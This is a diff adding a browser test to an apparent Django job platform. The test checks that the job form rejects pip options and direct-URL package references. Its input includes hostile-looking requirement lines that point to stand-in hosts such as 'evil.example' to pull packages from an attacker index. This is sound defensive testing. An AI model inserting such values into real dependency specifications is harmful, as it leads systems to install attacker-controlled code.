@@ -420,3 +420,38 @@ def test_submit_a_job_in_a_browser_and_land_on_its_page(
     expect(page.locator("#job-log [data-log-message]")).to_contain_text("not started yet")
     job = ClusterRequest.objects.get(name="bob-browser-job")
     assert job.job.runtime_env["pip"] == ["numpy", "pandas==2.2.0"]
+
+
+@pytest.mark.browser
+@pytest.mark.django_db(transaction=True)
+def test_a_pip_option_typed_into_the_new_job_form_is_refused_next_to_the_field(
+    page: Any, live_server: Any, browser_env: None, bob: Any
+) -> None:
+    from playwright.sync_api import expect
+
+    import tests.frontend.browser  # noqa: F401  (sets DJANGO_ALLOW_ASYNC_UNSAFE first)
+    from tests.frontend.test_browser import sign_in
+
+    base = live_server.url
+    sign_in(page, base, "bob")
+    page.goto(f"{base}/t/acme/jobs/new/")
+    page.get_by_label("Entrypoint").fill("python train.py")
+    page.get_by_label("Workers").fill("1")
+    page.get_by_label("pip packages").fill(
+        "torch==2.4.0\ntorch --index-url https://evil.example/simple\nevil @ https://e.example/e.whl"
+    )
+    page.get_by_label("Name", exact=True).fill("bob-pip-job")
+    page.get_by_role("button", name="Submit job").click()
+    errors = page.locator("#field-pip .error")
+    expect(errors).to_contain_text(
+        "'torch --index-url https://evil.example/simple': pip options are not allowed: "
+        "the platform chooses the package index."
+    )
+    expect(errors).to_contain_text(
+        "'evil @ https://e.example/e.whl': direct URL references are not allowed unless "
+        "your tenant's policy allows them."
+    )
+    expect(page.get_by_label("pip packages")).to_have_value(re.compile("evil.example"))
+    page.screenshot(path="/tmp/pip-job-form.png", full_page=True)
+    assert not ClusterRequest.objects.filter(name="bob-pip-job").exists()
+    assert not Job.objects.exists()
